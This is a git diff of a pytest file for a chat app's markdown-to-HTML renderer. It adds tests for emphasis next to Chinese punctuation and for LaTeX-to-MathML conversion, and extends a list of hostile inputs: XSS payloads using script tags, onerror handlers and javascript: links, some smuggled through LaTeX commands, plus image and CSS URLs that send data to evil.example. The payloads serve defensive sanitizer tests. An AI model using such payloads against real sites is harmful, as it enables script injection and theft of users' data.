@@ -4,6 +4,7 @@ from html.parser import HTMLParser
 
 import pytest
 
+from chat.conversations.formulas import ATTRIBUTES, TAGS
 from chat.conversations.rendering import LONGEST, to_html
 
 
@@ -56,7 +57,89 @@ def test_not_everything_with_a_dot_is_a_link(text):
     assert "<a" not in to_html(text)
 
 
+@pytest.mark.parametrize(
+    ("text", "bold"),
+    [
+        ("**注意：**请先登录", "注意："),
+        ("他说**“你好”**然后走了", "“你好”"),
+        ("按**《规定》**办", "《规定》"),
+        ("这是**重点**。", "重点"),
+        ("**「引」**は", "「引」"),
+        ("共**100%**的", "100%"),
+        ("plain **bold**, text", "bold"),
+    ],
+)
+def test_bold_stands_next_to_chinese_punctuation(text, bold):
+    assert f"<strong>{bold}</strong>" in to_html(text)
+
+
+@pytest.mark.parametrize("text", ["2 * 3 * 4", "snake_case_name", "中_文_字", "** 空 **", "a**b"])
+def test_not_every_asterisk_is_emphasis(text):
+    assert "<em>" not in to_html(text) and "<strong>" not in to_html(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "parts"),
+    [
+        (r"行内 \(E=mc^2\)，", ["<msup><mi>c</mi><mn>2</mn></msup>", "行内 ", "，"]),
+        (r"\[ \begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix} \]", ["<mtd><mn>4</mn></mtd>"]),
+        ("$a_1*b_1*c$", ["<msub><mi>b</mi><mn>1</mn></msub><mo>*</mo><mi>c</mi>"]),
+        ("得：\n\\[\na\n+ b\n\\]\n完", ["<p>得：</p>", "<mo>+</mo><mi>b</mi>", "<p>完</p>"]),
+        ("- 一\n\n  $$\n  x\n  - y\n  $$\n- 二", ["<mo>−</mo><mi>y</mi>", "<p>二</p>"]),
+        (r"\(\text{a<b}\)", ["<mtext>a&lt;b</mtext>"]),
+        (r"$\begin{aligned}a&=b\\c&=d\end{aligned}$", ["<mtr>", "<mi>d</mi>"]),
+        ("|$x$|\n|-|\n|$y$|", ["<th><math", "<td><math"]),
+    ],
+)
+def test_formulas_become_mathml(text, parts):
+    html = to_html(text)
+    assert "<math" in html
+    for part in parts:
+        assert part in html, html
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "从 $5 到 $10",
+        "US$5/US$10",
+        "$5-$8元",
+        "花了$5和$，",
+        "`$a$`",
+        "$HOME/$PATH",
+        r"\$a$",
+        "$ a $",
+        r"\(",
+        r"$\unknown x$",
+        r"\(x^\)",
+        "$$\n\n$$",
+        "\\[\nnever closed",
+    ],
+)
+def test_what_is_no_formula_stays_as_it_was_written(text):
+    html = to_html(text)
+    assert "<math" not in html
+    for word in ("5", "a", "HOME", "unknown x", "closed"):
+        assert (word in html) == (word in text)
+
+
+def test_tasks_have_boxes():
+    assert "<li>☐ a</li>\n<li>☑ b</li>" in to_html("- [ ] a\n- [x] b\n- [y] c")
+
+
+def test_many_formulas_do_not_keep_others_waiting():
+    """20,000 characters of them are converted; the rest is shown as written."""
+    html = to_html("".join(f"\\(x_{{{n}}}\\)\n" for n in range(6000)))
+    assert 1000 < html.count("<math") < 6000 and r"\(x_{5999}\)" in html
+
+
 HOSTILE = [
+    r"\(\href{javascript:alert(1)}{x}\)",
+    r"$\style{background:url(https://evil.example)}{x}$",
+    r"\[\text{</mtext><script>alert(1)</script><img src=x onerror=alert(1)>}\]",
+    r"$\text{<style><img src=x onerror=alert(1)>}$",
+    r"$\class{a}{\id{b}{x}}\includegraphics{x}$",
+    r"\(x</math><script>alert(1)</script>\)",
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
     "![x](https://evil.example/?q=secret)",
@@ -106,9 +189,11 @@ def test_hostile_text_stays_text(text):
                 "tr",
                 "th",
                 "td",
+                *TAGS.split(),
             }
             for name, value in attributes:
-                assert name in {"href", "title", "target", "rel", "class", "tabindex"}, name
+                known = {"href", "title", "target", "rel", "class", "tabindex"}
+                assert name in known or name in ATTRIBUTES.get(tag, ()), name
                 assert name != "href" or value.startswith(("https://", "http://", "mailto:")), value
 
     Reader().feed(to_html(text))
